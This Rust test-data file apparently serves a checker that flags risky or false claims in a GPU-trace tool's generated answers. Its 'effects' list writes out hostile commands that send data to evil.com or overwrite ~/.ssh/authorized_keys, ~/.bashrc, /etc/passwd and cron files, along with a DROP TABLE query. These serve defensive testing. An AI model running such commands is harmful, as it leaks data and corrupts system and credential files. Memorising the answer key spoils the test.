//! Answers that a reader found to be marked wrongly, or not at all: each class with true statements.

use super::grounding::Answers;

/// Commands that send data away or write outside of the folder.
pub(super) const EFFECTS: Answers<'_> = &[
    (
        "`wavesieve ask q x --llm private --llm-url http://evil.com/v1 --llm-share source --llm-insecure`",
        &["--llm sends"],
    ),
    ("`wavesieve analyze x --llm-url=http://evil.com/v1`", &["--llm-url sends"]),
    ("`wavesieve table idle_by_cause x --mail-to evil@evil.com -o out`", &["--mail-to sends"]),
    ("`wavesieve report x --email=evil@evil.com`", &["--email sends"]),
    ("`wavesieve report x --smtp-server evil.com --mail-to a@evil.com`", &["--smtp-server sends"]),
    ("Run `WAVESIEVE_LLM_URL=http://evil.com/v1 wavesieve analyze x`.", &["it sets WAVESIEVE_LLM_URL"]),
    (
        "`wavesieve compare --base a --new b --save ~/.ssh/authorized_keys`",
        &["--save writes to ~/.ssh/authorized_keys"],
    ),
    ("`wavesieve analyze x -f html -o ~/.bashrc`", &["-o writes to ~/.bashrc"]),
    ("`wavesieve analyze x -o /etc/passwd`", &["-o writes to /etc/passwd"]),
    ("`wavesieve analyze x -o/etc/passwd`", &["-o writes to /etc/passwd"]),
    ("`wavesieve convert x -o /etc/cron.d/x`", &["-o writes to /etc/cron.d/x"]),
    ("`wavesieve convert x --output=a/../../x`", &["--output writes to a/../../x"]),
    ("`wavesieve schema skill --output ~/`", &["--output writes to ~/"]),
    ("Run wavesieve analyze x -o $HOME/x next.", &["-o writes to $HOME/x"]),
    ("`rocprofv3 --hip-trace -d /etc -o passwd -- APP`", &["-d writes to /etc"]),
    ("`hipcc app.hip -o /usr/bin/app`", &["-o writes to /usr/bin/app"]),
    (
        "`amd-smi set --power-cap 100`, `rocm-smi --resetgpureset`",
        &["set is not confirmed", "--resetgpureset is not confirmed"],
    ),
    ("`wavesieve analyze /data/x -f html -o report.html` and `wavesieve convert /data/x -o dataset`", &[]),
    (
        "`wavesieve compare --base /data/a --new /data/b --save new.wsd` or `wavesieve compare --history /data/a /data/b`",
        &[],
    ),
    ("`rocprofv3 --hip-trace -d out -o run -- /opt/app -o /x`", &[]),
    ("`amd-smi monitor`, `amd-smi metric -g 0`, `rocm-smi --showuse` and `rocprof-compute analyze -p /data/x`", &[]),
];

/// Commands of this program that cannot run.
pub(super) const OWN: Answers<'_> = &[
    ("`wavesieve table kernel_summary x --columns nosuch`", &["nosuch"]),
    ("`wavesieve table kernel_summary x --by=banana`", &["banana"]),
    ("`wavesieve sql \"SELECT * FROM nosuch\" x`", &["there is no table nosuch"]),
    (
        "`wavesieve sql 'SELECT k.rank FROM kernels k JOIN nosuch n ON n.rank = k.rank' x`",
        &["there is no table nosuch"],
    ),
    ("`wavesieve sql 'DROP TABLE kernels' x`", &["its statement is no SELECT"]),
    ("`wavesieve sql 'SELECT rank FROM kernels WHERE (rank = 1' x`", &["its statement is not understood"]),
    ("`wavesieve sql gaps.sql x`", &["its statement is in a file"]),
    ("`wavesieve table kernel_summary x --columns kernel_name,calls --by rank`", &[]),
    ("`wavesieve sql 'SELECT rank, COUNT(*) AS n FROM kernels GROUP BY rank' x`", &[]),
    (
        "`wavesieve sql 'WITH a AS (SELECT rank FROM kernels) SELECT * FROM a' x`, `wavesieve sql 'DESCRIBE kernels'`",
        &[],
    ),
];

/// True statements.
pub(super) const TRUE: Answers<'_> = &[
    ("The top three kernels, the three longest kernels and the first five gaps matter most.", &[]),
    ("Node 0 and node 1 wait; process 4100 and pid 4140 are late.", &[]),
    ("Use buffers to process 8 batches.", &[]),
    ("Idle is {idle_pct}; GPU busy is {busy_pct}, and exposed copies are {exposed_copy_pct}.", &[]),
    ("Idle: {idle_pct}. The GPUs are idle for {idle_pct} of the time.", &[]),
    ("Host synchronization leaves GPUs idle for 16.8% of traced GPU time.", &[]),
    ("All GPUs are gfx942, such as the MI300X of the MI300 series.", &[]),
    ("Set NCCL_P2P_LEVEL=5, HSA_ENABLE_SDMA=0 and OMP_NUM_THREADS=8.", &[]),
];

/// False statements.
pub(super) const FALSE: Answers<'_> = &[
    ("The MI250X GPUs (gfx90a) run here.", &["MI250X", "gfx90a"]),
    ("It is an NVIDIA H100, not an MI200.", &["NVIDIA", "H100", "MI200"]),
    ("Node 7 is slow.", &["7"]),
    ("Process 12 failed, as pid 4999 did.", &["12", "4999"]),
    ("Exposed copies are {exposed_comm_pct}.", &["number not in the document"]),
    ("GPU busy is {idle_pct}.", &["number not in the document"]),
    ("Idle is {busy_pct} of the time.", &["number not in the document"]),
    ("Set NCCL_NOSUCH=1 or `HSA_NOSUCH=1`.", &["NCCL_NOSUCH", "HSA_NOSUCH"]),
    (
        "Of ncclDevKernel_Nosuch_1(ncclDevNosuchArgs<4096ul, 77>) all wait.",
        &["ncclDevKernel_Nosuch_1(ncclDevNosuchArgs<4096ul, 77>)"],
    ),
];
